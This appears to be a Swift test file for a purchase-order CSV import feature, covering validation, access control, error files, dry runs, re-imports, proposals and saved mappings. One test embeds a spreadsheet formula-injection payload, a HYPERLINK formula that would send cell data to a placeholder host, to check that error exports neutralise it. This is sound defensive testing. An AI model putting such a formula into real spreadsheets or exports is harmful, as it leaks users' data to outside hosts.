import FollowUp
import Foundation
import Record
import Testing
import UseCases

@Suite struct ImportTests {
    @Test(arguments: TestEngine.all)
    func `a list without a currency, or without a needed column, is not begun`(
        _ engine: TestEngine
    ) async throws {
        try await Stage.on(engine) { stage in
            let id = try await stage.take(Array("PO,Description\nPO-1,Lid\n".utf8), currency: nil)
            let refused = try await refusal {
                _ = try await stage.house.perform(RunList(list: id), stage.owner)
            }
            #expect(
                Set(refused.reasons.compactMap(\.field)) == [
                    "currency", "column.supplier", "column.quantity",
                ])
            await #expect(throws: Refusal(.unknownCurrency, field: "currency")) {
                _ = try await stage.take(Lists.chinese, currency: "QQQ")
            }
        }
    }

    @Test(arguments: TestEngine.all)
    func `nobody of another workspace sees a list, and the inspector takes none`(
        _ engine: TestEngine
    ) async throws {
        try await Stage.on(engine) { stage in
            let (other, _) = try await Stage.found("other", in: stage.house)
            let id = try await stage.take(Lists.chinese)
            await #expect(throws: Refusal(.notFound)) {
                _ = try await stage.house.ask(AskList(list: id), other)
            }
            await #expect(throws: Refusal(.notFound)) {
                _ = try await stage.house.ask(AskListErrors(list: id), other)
            }
            #expect(try await stage.house.ask(AskImports(), other).items.isEmpty)
            await #expect(throws: Refusal(.notFound)) {
                _ = try await stage.house.runImport(id, dryRun: false, other)
            }
            var caller = stage.owner
            caller.roles = [.inspector]
            let inspector = caller
            await #expect(throws: Refusal(.notAllowed)) {
                _ = try await stage.house.ask(AskList(list: id), inspector)
            }
            await #expect(throws: Refusal(.notAllowed)) {
                _ = try await stage.house.ask(AskListErrors(list: id), inspector)
            }
            await #expect(throws: Refusal(.notAllowed)) {
                _ = try await stage.house.runImport(id, dryRun: false, inspector)
            }
        }
    }

    @Test(arguments: TestEngine.all)
    func `a problem names its row and column, and what is good goes in`(
        _ engine: TestEngine
    ) async throws {
        try await Stage.on(engine) { stage in
            let report = try await stage.bringIn(Lists.chinese)
            #expect(
                report.problems == [
                    ImportProblem(row: 3, column: "交期", reason: "notADay"),
                    ImportProblem(row: 4, column: "数量", reason: "notPositive"),
                ])
            #expect(report.lines == 4)
            #expect(report.rejectedRows == 2)
            #expect(report.created == 1)
            let order = try await stage.order(numbered: "PO-1")
            #expect(order.lines.map(\.description) == ["保温杯", "杯盖"])
            #expect(order.lines.map(\.quantity) == [quantity(6_000), quantity(100)])
            #expect(order.supplierName == "永康恒达")
            #expect(order.promised == day("2026-11-20"))
            #expect(try await stage.count(.order) == 1)
        }
    }

    @Test(arguments: TestEngine.all)
    func `the error file, once fixed, imports cleanly`(_ engine: TestEngine) async throws {
        try await Stage.on(engine) { stage in
            let id = try await stage.take(Lists.chinese)
            _ = try await stage.house.runImport(id, dryRun: false, stage.owner)
            var bytes = try #require(try await stage.errors(of: id))
            for (wrong, right) in [("2026-02-31", "2026-02-28"), (",-5,", ",5,")] {
                let at = try #require(bytes.firstRange(of: Array(wrong.utf8)))
                bytes.replaceSubrange(at, with: Array(right.utf8))
            }
            let again = try await stage.take(bytes)
            let report = try #require(
                try await stage.house.runImport(again, dryRun: false, stage.owner).report)
            #expect(report.problems.isEmpty)
            #expect(report.created == 2)
            #expect(try await stage.errors(of: again) == nil)
            #expect(try await stage.count(.order) == 3)
            #expect(try await stage.order(numbered: "PO-3").lines[0].quantity == quantity(5))
        }
    }

    @Test(arguments: TestEngine.all)
    func `no text of a list is a formula in its error file, and it comes back as it was`(
        _ engine: TestEngine
    ) async throws {
        try await Stage.on(engine) { stage in
            let formula = #"=HYPERLINK("http://x.example/?"&A1)"#
            let quoted = formula.replacingOccurrences(of: "\"", with: "\"\"")
            let list = "PO,Vendor,Item,Qty\nPO-1,＠Hengda,\"\(quoted)\",none 0\nPO-2,＠Hengda,Lid,2\n"
            let id = try await stage.take(Array(list.utf8))
            _ = try await stage.house.runImport(id, dryRun: false, stage.owner)
            let errors = try #require(try await stage.errors(of: id))
            let text = String(decoding: errors, as: UTF8.self)
            #expect(text.contains(",PO-1,'＠Hengda,\"'=HYPERLINK"), "\(text)")
            let fixed = text.replacingOccurrences(of: "none 0", with: "1")
            let again = try await stage.take(Array(fixed.utf8))
            let report = try #require(
                try await stage.house.runImport(again, dryRun: false, stage.owner).report)
            #expect(report.problems.isEmpty && report.created == 1)
            let order = try await stage.order(numbered: "PO-1")
            #expect(order.lines[0].description == formula)
            #expect(try await stage.count(.supplier) == 1)
        }
    }

    @Test(arguments: TestEngine.all)
    func `a dry run counts as the import would, and writes nothing`(
        _ engine: TestEngine
    ) async throws {
        try await Stage.on(engine) { stage in
            try await stage.open("PO-50")
            let before = try await stage.derivedRows()
            let seq = try await stage.order(numbered: "PO-50").seq
            let dry = try await stage.bringIn(Lists.chinese, dryRun: true)
            #expect(try await stage.derivedRows() == before)
            #expect(try await stage.order(numbered: "PO-50").seq == seq)
            #expect(try await stage.count(.order) == 1)
            let report = try await stage.bringIn(Lists.chinese)
            #expect(dry.dryRun && !report.dryRun)
            #expect(dry.created == report.created)
            #expect(dry.orders == report.orders && dry.suppliers == report.suppliers)
            #expect(dry.problems == report.problems)
            #expect(dry.notes == report.notes)
        }
    }

    @Test(arguments: TestEngine.all)
    func `semicolons, decimal commas, points between thousands and UTF-16 are read`(
        _ engine: TestEngine
    ) async throws {
        try await Stage.on(engine) { stage in
            let id = try await stage.take(Lists.german, currency: "EUR")
            let list = try await stage.list(id)
            #expect(list.form.encoding.lowercased().contains("utf16"), "\(list.form.encoding)")
            #expect(list.header.count == 6)
            let report = try #require(
                try await stage.house.runImport(id, dryRun: false, stage.owner).report)
            #expect(report.problems.isEmpty)
            let order = try await stage.order(numbered: "PO-9")
            #expect(order.promised == day("2026-12-31"))
            #expect(order.lines[0].unitPrice == UnitPrice(decimal: "3.90"))
            #expect(
                try await stage.order(numbered: "PO-10").lines[0].quantity
                    == Quantity(decimal: "2.5"))
        }
    }

    @Test(arguments: TestEngine.all)
    func `the same list again changes nothing`(_ engine: TestEngine) async throws {
        try await Stage.on(engine) { stage in
            _ = try await stage.bringIn(Lists.chinese)
            let seq = try await stage.order(numbered: "PO-1").seq
            let again = try await stage.bringIn(Lists.chinese)
            #expect(again.created == 0 && again.updated == 0 && again.proposed == 0)
            #expect(again.unchanged == 1)
            #expect(try await stage.order(numbered: "PO-1").seq == seq)
        }
    }

    private static func list(_ number: String, quantity: Int, payment: String) -> String {
        "PO,Vendor,Description,Qty,Payment terms,Promised date\n"
            + "\(number),Hengda,Bottle,\(quantity),\(payment),2026-11-20\n"
    }

    @Test(arguments: TestEngine.all)
    func `another list updates, and says what changed`(_ engine: TestEngine) async throws {
        try await Stage.on(engine) { stage in
            _ = try await stage.bringIn(Self.list("PO-1", quantity: 100, payment: "TT"))
            let report = try await stage.bringIn(Self.list("PO-1", quantity: 120, payment: "LC"))
            #expect(report.updated == 1 && report.created == 0)
            #expect(report.notes.changedFields == ["quantity": 1, "payment": 1])
            let order = try await stage.order(numbered: "PO-1")
            #expect(order.lines[0].quantity == quantity(120))
            #expect(order.terms.payment == "LC")
        }
    }

    @Test(arguments: TestEngine.all)
    func `where a person has spoken since, a list only proposes`(
        _ engine: TestEngine
    ) async throws {
        try await Stage.on(engine) { stage in
            _ = try await stage.bringIn(Self.list("PO-1", quantity: 100, payment: "TT"))
            let id = try await stage.order(numbered: "PO-1").id
            _ = try await stage.house.perform(
                AmendTerms(order: id, payment: "agreed 30/70", promised: day("2026-11-20")),
                stage.owner)
            let report = try await stage.bringIn(Self.list("PO-1", quantity: 100, payment: "LC"))
            #expect(report.proposed == 1 && report.updated == 0)
            let order = try await stage.order(id)
            #expect(order.terms.payment == "agreed 30/70")
            #expect(order.proposals.map { $0.terms?.payment } == ["LC"])
            let again = try await stage.bringIn(Self.list("PO-1", quantity: 100, payment: "LC"))
            #expect(again.unchanged == 1)
            _ = try await stage.house.perform(
                AcceptProposal(order: id, proposal: 1), stage.owner)
            #expect(try await stage.order(id).terms.payment == "LC")
            #expect(try await stage.order(id).proposals.isEmpty)
            await #expect(throws: Refusal.self) {
                _ = try await stage.house.perform(
                    RefuseProposal(order: id, proposal: 1), stage.owner)
            }
        }
    }

    @Test(arguments: TestEngine.all)
    func `a take-over sheet tells the stage, and names the orders it does not know`(
        _ engine: TestEngine
    ) async throws {
        try await Stage.on(engine) { stage in
            let id = try await stage.open("PO-1")
            let sheet =
                "PO,Stage,As of,Paid,Finished,depositReceived\n"
                + "PO-1,massProductionStarted,2026-08-31,1170.00,120,2026-08-20\n"
                + "PO-404,loaded,2026-08-31,,,\n"
            let dry = try await stage.bringIn(Array(sheet.utf8), sheet: "takeOver", dryRun: true)
            #expect(try await stage.order(id).takeOver == nil)
            let report = try await stage.bringIn(sheet, sheet: "takeOver")
            #expect(dry.problems == report.problems)
            #expect(
                report.problems == [ImportProblem(row: 3, column: "PO", reason: "unknownOrder")])
            #expect(report.updated == 1)
            let order = try await stage.order(id)
            #expect(order.takeOver?.stage == .massProductionStarted)
            #expect(order.takeOver?.paid == Money(amountMinor: 117_000, currency: .usd))
            #expect(
                try await stage.milestone(.depositReceived, of: id).actual == day("2026-08-20"))
        }
    }

    @Test(arguments: TestEngine.all)
    func `a remembered mapping reads the next list`(_ engine: TestEngine) async throws {
        try await Stage.on(engine) { stage in
            let text = "a,b,c,d\nPO-1,Hengda,Bottle,100\n"
            let id = try await stage.take(Array(text.utf8))
            var mapping = MapList(
                list: id, columns: ["order": "a", "supplier": "b", "item": "c", "quantity": "d"])
            mapping.name = "erp"
            mapping.currency = "USD"
            _ = try await stage.house.perform(mapping, stage.owner)
            _ = try await stage.house.runImport(id, dryRun: false, stage.owner)
            let next = try await stage.take(
                Array("a,b,c,d\nPO-2,Hengda,Lid,5\n".utf8), currency: nil, mapping: "erp")
            let report = try await stage.house.runImport(next, dryRun: false, stage.owner).report
            #expect(report?.created == 1)
            #expect(try await stage.order(numbered: "PO-2").value == nil)
        }
    }
}
